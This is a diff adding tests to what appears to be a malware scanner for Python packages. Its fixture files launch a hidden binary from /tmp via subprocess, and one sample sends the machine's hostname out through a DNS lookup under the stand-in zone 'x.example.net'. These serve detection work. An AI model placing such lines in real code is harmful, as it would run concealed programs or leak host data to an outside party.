@@ -209,3 +209,28 @@ def test_code_in_files_nobody_imports_is_capped_at_low(tmp_path: Path) -> None:
     (tmp_path / "in").mkdir()
     inside = make_sdist(tmp_path / "in", "demo", "1.0", {"demo/agent.py": code, "demo/__init__.py": ""})
     assert any(f.id == "PW110" and f.severity == Severity.MEDIUM for f in _scan(inside))
+
+
+def test_helper_folders_in_a_package_and_script_folders_are_dormant(tmp_path: Path) -> None:
+    """A folder without ``__init__.py`` inside a package (sources, helpers: ``pkg/_src/x86/bench.py``) and a
+    ``scripts/`` folder without ``__init__.py`` run only by hand, even when the build config
+    happens to mention the folder's name in a string."""
+    code = "import subprocess\nsubprocess.Popen(['/tmp/.x/agent'])\n"
+    setup_py = "import os\nfrom setuptools import setup\nREADME = os.path.join('scripts', 'readme.py')\nsetup()\n"
+    files = {"demo/__init__.py": "", "demo/_src/x86-simd/run-bench.py": code, "scripts/internal/fetch.py": code,
+             "demo/_tests/check.py": code}
+    hits = [f for f in _scan(make_sdist(tmp_path, "demo", "1.0", files, setup_py=setup_py)) if f.id == "PW110"]
+    assert {f.file.split("/", 1)[1] for f in hits} <= set(files)
+    assert hits and all(f.severity <= Severity.LOW for f in hits), hits
+
+
+def test_own_name_in_a_local_zone_is_not_dns_exfiltration(tmp_path: Path) -> None:
+    """``gethostbyname_ex(gethostname() + '.local')`` finds the machine's addresses; the same name
+    under an internet zone is data smuggled out."""
+    local = "import socket\n\ndef ips():\n    return socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n"
+    remote = local.replace("'.local'", "'.x.example.net'")
+    sdist = make_sdist(tmp_path, "demo", "1.0", {"demo/__init__.py": "", "demo/net.py": local})
+    assert not [f for f in _scan(sdist) if f.id == "PW133"]
+    (tmp_path / "r").mkdir()
+    sdist = make_sdist(tmp_path / "r", "demo", "1.0", {"demo/__init__.py": "", "demo/net.py": remote})
+    assert [f for f in _scan(sdist) if f.id == "PW133" and f.severity >= Severity.HIGH]
